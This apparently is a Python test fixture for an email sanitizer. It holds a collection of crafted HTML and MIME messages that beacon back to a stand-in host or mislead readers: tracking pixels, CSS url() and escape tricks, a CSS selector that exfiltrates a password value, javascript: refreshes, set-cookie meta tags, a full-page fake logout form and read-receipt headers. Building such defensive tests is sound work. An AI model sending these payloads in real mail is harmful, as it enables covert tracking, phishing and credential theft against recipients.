"""HTML that wants to tell its sender that it was read, or to lead the reader away."""

from __future__ import annotations

from quarantine.tests.hostile.making import BEACON, html, multipart, part, text

_B = BEACON

MAILS: dict[str, bytes] = {
    "tracking pixel": html(f'<img src="{_B}/p.gif?id=1" width=1 height=1>'),
    "tracking pixel by protocol": html('<img src="//beacon.example/p.gif"><img src="\\\\beacon.e'
            'xample'
                                       '\\p"><img src="ftp://beacon.example/x">'),
    "tracking pixel of the console": html('<img src="/accounts/logout/"><img src="search/?q=a">'),
    "srcset and sizes": html(f'<img srcset="{_B}/1.png 1x, {_B}/2.png 2x" sizes=100vw alt=x>'
                             f'<picture><source srcset="{_B}/3.webp"><img></picture>'),
    "lowsrc, dynsrc and longdesc": html(f'<img lowsrc="{_B}/l" dynsrc="{_B}/d" longdesc="{_B}/x">'),
    "background attribute": html(f'<body background="{_B}/b.png"><table background="{_B}/t.png"'
            f'><tr>'
                                 f'<td background="{_B}/c.png">x</td></tr></table></body>'),
    "style url": html(f'<p style="background:url({_B}/s.png);list-style-image:url(\'{_B}/l\');'
                      f'cursor:url({_B}/c),auto;content:image-set(\'{_B}/i\' 1x)">x</p>'),
    "style escapes": html(f'<p style="background:\\75\\72\\6c({_B}/e.png)">x</p>'
                          f'<p style="background:u/**/rl({_B}/f)">y</p>'),
    "style sheet": html(f"<style>body{{background:url({_B}/s.png)}}</style><p>x</p>"),
    "import of a style sheet": html(f'<style>@import "{_B}/a.css";@import url({_B}/b.css);</s'
            f'tyle>'),
    "font face": html(f"<style>@font-face{{font-family:x;src:url({_B}/f.woff)}}"
                      "p{font-family:x}</style><p>x</p>"),
    "css exfiltration": html(f'<style>input[value^=a]{{background:url({_B}/a)}}</style>'
                             '<input type=password value=abc>'),
    "link of a style sheet": html(f'<link rel=stylesheet href="{_B}/a.css"><p>x</p>'),
    "dns prefetch": html('<link rel=dns-prefetch href="//beacon.example"><meta http-equiv='
                         'x-dns-prefetch-control content=on><a href="https://beacon.example/">'
            'x</a>'),
    "preconnect, prefetch and preload": html(
        f'<link rel=preconnect href="{_B}"><link rel=prefetch href="{_B}/x">'
        f'<link rel=preload as=image href="{_B}/y"><link rel=prerender href="{_B}/z">'
        f'<link rel=modulepreload href="{_B}/m.js">'),
    "speculation rules": html('<script type=speculationrules>{"prefetch":[{"source":"list","urls":'
                              f'["{_B}/s"]}}]}}</script>'),
    "icon and manifest": html(f'<link rel=icon href="{_B}/i.ico"><link rel=manifest href="'
            f'{_B}/m">'),
    "meta refresh": html(f'<meta http-equiv=refresh content="0;url={_B}/r">'),
    "meta refresh to javascript": html('<meta http-equiv=refresh content="0;url=javascript:alert'
            '(1)">'),
    "meta policy that reports": html("<meta http-equiv=content-security-policy content="
                                     f"\"default-src 'none'; report-uri {_B}/csp\"><img src=x>"),
    "meta that sets cookies": html('<meta http-equiv=set-cookie content="sessionid=mallory">'),
    "base": html(f'<base href="{_B}/" target=_top><a href="x">x</a><img src="y">'),
    "form": html(f'<form action="{_B}/login" method=post><input name=password type=password>'
                 '<button autofocus formaction="javascript:alert(1)">Log in</button></form>'),
    "form that fills the page": html('<div style="position:fixed;inset:0;z-index:9999;background'
            ':#fff">'
                                     '<form action="/accounts/logout/" method=post>'
                                     '<input type=submit value="Session expired"></form></div>'),
    "button and isindex": html(f'<isindex action="{_B}/i"><button form=x formaction="{_B}/b">x'),
    "iframe, object and embed": html(f'<iframe src="{_B}/i"></iframe><object data="{_B}/o"></ob'
            f'ject>'
                                     f'<embed src="{_B}/e"><portal src="{_B}/p"></portal>'),
    "video, audio and track": html(f'<video src="{_B}/v" poster="{_B}/p" autoplay><track default '
                                   f'src="{_B}/t"></video><audio src="{_B}/a" autoplay></audio>'),
    "svg image and use": html(f'<svg><image href="{_B}/i"/><use href="{_B}/u#x"/><feImage '
                              f'href="{_B}/f"/></svg>'),
    "math link": html(f'<math href="{_B}/m"><maction actiontype="statusline" xlink:href="'
            f'{_B}/n">x'),
    "ping": html(f'<a href="#x" ping="{_B}/ping">x</a>'),
    "target top": html(f'<a href="{_B}/top" target=_top>x</a><a href="{_B}" target=_parent>y</a>'),
    "import map": html(f'<script type=importmap>{{"imports":{{"x":"{_B}/x.js"}}}}</script>'),
    "attribution and fenced frame": html(f'<img attributionsrc="{_B}/a"><fencedframe src="'
            f'{_B}/f">'),
    "cite, profile and archive": html(f'<blockquote cite="{_B}/c">x</blockquote><head profile='
                                      f'"{_B}/p"><del cite="{_B}/d">y</del>'),
    "vml and old office": html(f'<v:background fill="t"><v:fill type="tile" src="{_B}/v"/>'
                               f'</v:background><xml src="{_B}/x"></xml><bgsound src="{_B}/s">'),
    "external body": multipart(part("message/external-body; access-type=URL; "
                                    f'URL="{_B}/body"', b"Content-Type: text/html\n\n")),
    "content location": multipart(part("text/html", b'<img src="pic.png">',
                                       f"Content-Location: {_B}/page/", f"Content-Base: {_B}/")),
    "receipts": text("x").replace(b"Subject:", b"Disposition-Notification-To: mallory@evil.exam"
            b"ple\n"
                                  b"Return-Receipt-To: mallory@evil.example\nSubject:"),
    "plain text of addresses": text(f"{_B}/?a=<script>alert(1)</script> javascript:alert(1)"),
}  # fmt: skip
